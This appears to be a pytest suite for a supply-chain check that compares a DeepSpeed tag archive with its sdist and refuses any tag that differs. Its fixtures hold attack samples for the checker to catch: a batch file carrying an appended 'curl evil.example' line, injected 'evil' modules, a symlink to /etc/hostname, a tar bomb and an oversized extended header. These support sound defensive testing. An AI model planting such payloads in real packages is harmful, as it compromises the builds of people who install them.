"""Of a tag's archive only what the sdist or a row vouches for is taken; a tag that differs is refused."""

from __future__ import annotations

import gzip
import tarfile
from collections.abc import Mapping
from pathlib import Path

import pytest

from scripts.errors import SourceError
from scripts.facts.load import load_facts
from scripts.facts.tag_files import TagFile, check_tag_files
from scripts.schema.readers import Problems
from scripts.wheel_build import tag_archive
from scripts.wheel_build.source import fetch_source
from scripts.wheel_build.tag_archive import pack_members, vouched_members
from tests.wheel_build.factories import tar_bytes

FACTS = load_facts()
ROWS = FACTS.tag_files
VERSION = "0.19.8"
BOTH = {
    "setup.py": "from op_builder import ALL_OPS\n",
    "op_builder/__init__.py": "ALL_OPS = {}\n",
    "csrc/a.cpp": "int a;\n",
    "bin/ds": "#!/usr/bin/env python\n",
}
SDIST = {
    **BOTH,
    "version.txt": VERSION,
    "setup.cfg": "[egg_info]\ntag_build =\n",
    "deepspeed/ops/csrc/a.cpp": "int a;\n",
    "build.txt": " ",
    "PKG-INFO": "Name: deepspeed\n",
    "deepspeed.egg-info/PKG-INFO": "Name: deepspeed\n",
    "deepspeed/git_version_info_installed.py": "version='0.19.8'\n",
}
TAG = {
    **BOTH,
    "version.txt": "0.17.7",
    "setup.cfg": "",
    "bin/deepspeed.bat": '@echo off\r\npython "%~dp0\\ds" %*\r\n',
    "MANIFEST_win.in": "include *.txt README.md\nrecursive-include requirements *.txt\n\n# more\nprune csrc\n",
    "tests/unit/test_all.py": "import os\n",
    ".github/workflows/python.yml": "on: push\n",
    "docs/index.md": "# Docs\n",
}
TAKEN = {*BOTH, "version.txt", "setup.cfg", "deepspeed/ops/csrc/a.cpp", "bin/deepspeed.bat", "MANIFEST_win.in"}


def archive(folder: Path, name: str, members: Mapping[str, str]) -> Path:
    path = folder / name
    path.write_bytes(tar_bytes({f"top/{member}": text for member, text in members.items()}))
    return path


def take(folder: Path, tag: Mapping[str, str], sdist: Mapping[str, str] = SDIST) -> tuple[dict[str, str], list[str]]:
    """The content of what is taken, and the names of what is left out."""
    members, left_out = vouched_members(
        archive(folder, "tag.tar.gz", tag), archive(folder, "sdist.tar.gz", sdist), ROWS, VERSION
    )
    return {name: member.content.decode() for name, member in members.items()}, sorted(left_out)


def test_what_both_have_is_taken_and_what_only_the_tag_has_never_reaches_the_disk(tmp_path: Path) -> None:
    taken, left_out = take(tmp_path, TAG)
    assert taken.keys() == TAKEN
    assert left_out == [".github/workflows/python.yml", "docs/index.md", "tests/unit/test_all.py"]
    assert (taken["version.txt"], taken["setup.cfg"]) == (SDIST["version.txt"], SDIST["setup.cfg"])


REFUSED: dict[str, tuple[Mapping[str, str], str]] = {
    "two files that call themselves DeepSpeed": (
        {"setup.py": "import os\n", "version.txt": VERSION},
        r"lacks, of what its sdist has, bin/ds, csrc/a\.cpp, op_builder/__init__\.py",
    ),
    "a changed file": (
        {**TAG, "op_builder/__init__.py": "import evil\n"},
        r"unlike its sdist, op_builder/__init__\.py",
    ),
    "a batch file that does more": (
        {**TAG, "bin/deepspeed.bat": TAG["bin/deepspeed.bat"] + "curl evil.example\r\n"},
        r"unlike its sdist, bin/deepspeed\.bat",
    ),
    "a batch file that is no text": ({**TAG, "bin/ds_report.bat": "\u00e4"}, r"unlike its sdist, bin/ds_report\.bat"),
    "a list of files that is none": ({**TAG, "MANIFEST_win.in": "import os\n"}, r"unlike its sdist, MANIFEST_win\.in"),
}


@pytest.mark.parametrize("kind", REFUSED)
def test_a_tag_that_differs_is_refused_by_the_name_of_the_file(kind: str, tmp_path: Path) -> None:
    tag, message = REFUSED[kind]
    with pytest.raises(SourceError, match=message) as caught:
        take(tmp_path, tag)
    assert caught.value.id == "tag-not-verified"


def test_a_module_beside_the_ones_that_setup_py_imports_is_left_out(tmp_path: Path) -> None:
    hidden = {"op_builder/evil.py": "import os\n", "setuptools.py": "import os\n", "deepspeed/ops/csrc": "x"}
    taken, left_out = take(tmp_path, {**TAG, **hidden})
    assert taken.keys() == TAKEN
    assert hidden.keys() <= {*left_out}


def test_a_link_is_never_taken_for_the_file_of_its_name(tmp_path: Path) -> None:
    path = archive(tmp_path, "tag.tar", {name: text for name, text in TAG.items() if name != "setup.py"})
    with tarfile.open(path) as tar, tarfile.open(tmp_path / "linked.tar", "w") as linked:
        for entry in tar.getmembers():
            linked.addfile(entry, tar.extractfile(entry))
        link = tarfile.TarInfo("top/setup.py")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/hostname"
        linked.addfile(link)
    with pytest.raises(SourceError, match=r"lacks, of what its sdist has, setup\.py"):
        vouched_members(tmp_path / "linked.tar", archive(tmp_path, "sdist.tar.gz", SDIST), ROWS, VERSION)


def test_an_archive_that_unpacks_to_too_much_is_refused_before_it_is_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tag_archive, "MOST_BYTES", 1000)
    with pytest.raises(SourceError, match="more than 1000 bytes unpacked"):
        take(tmp_path, {**TAG, "bomb": "x" * 2000})


def test_a_header_that_unpacks_to_too_much_is_not_read_either(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """tarfile reads the header of an extended name at once, whatever its size; 14 MB of them ended a build at 3 GB."""
    monkeypatch.setattr(tag_archive, "MOST_BYTES", 200_000)
    header = tarfile.TarInfo("top/setup.py")
    header.size, header.type = 1 << 40, tarfile.XHDTYPE
    with gzip.open(tmp_path / "tag.tar.gz", "wb") as packed:
        packed.write(header.tobuf(tarfile.GNU_FORMAT) + bytes(1 << 20))
    with pytest.raises(SourceError, match="more than 200000 bytes unpacked"):
        vouched_members(tmp_path / "tag.tar.gz", archive(tmp_path, "sdist.tar.gz", SDIST), ROWS, VERSION)


def test_the_same_members_are_packed_to_the_same_bytes(tmp_path: Path) -> None:
    sdist = archive(tmp_path, "sdist.tar.gz", SDIST)
    for name, tag in (("one", TAG), ("two", {**dict(reversed(TAG.items())), "more.md": "more"})):
        members, _ = vouched_members(archive(tmp_path, f"{name}.tar.gz", tag), sdist, ROWS, VERSION)
        pack_members(members, "top", tmp_path / f"{name}.tar")
    assert (tmp_path / "one.tar").read_bytes() == (tmp_path / "two.tar").read_bytes()


def test_a_release_that_no_row_pins_has_no_tag(tmp_path: Path) -> None:
    with pytest.raises(SourceError, match="nothing vouches for its tag"):
        fetch_source("99.0.0", tmp_path, kinds=("tag",))


def test_a_row_that_takes_files_of_the_tag_says_what_they_may_hold() -> None:
    blind = TagFile(path="a", take="tag", reason="why", source=("deepspeed",))
    idle = TagFile(path="a", take="none", lines=".*", reason="why", source=("deepspeed",))
    for row in (blind, idle):
        problems = Problems()
        check_tag_files((row,), problems)
        assert [*problems] == ["deepspeed.yaml: tag_files[0]: needs `lines` if, and only if, it takes the tag's files"]


@pytest.mark.network
def test_every_row_about_an_sdist_is_about_a_file_that_a_real_one_has(tmp_path: Path) -> None:
    """What a tag is compared with; a tag's own archive is not looked at here."""
    pinned = FACTS.deepspeed[VERSION].sdist_sha256
    sdist = fetch_source(VERSION, tmp_path, kinds=("sdist",), pinned_sdist=pinned).path
    with tarfile.open(sdist) as tar:
        names = [entry.name.partition("/")[2] for entry in tar if entry.isfile()]
    for row in ROWS:
        assert any(row.holds(name) for name in names) == (row.take != "tag"), row.path
    members, left_out = vouched_members(sdist, sdist, ROWS, VERSION)
    kept = [name for name in names if not any(row.holds(name) and row.take == "none" for row in ROWS)]
    assert sorted(members) == sorted(kept)
    assert len(left_out) == len(names) - len(kept)
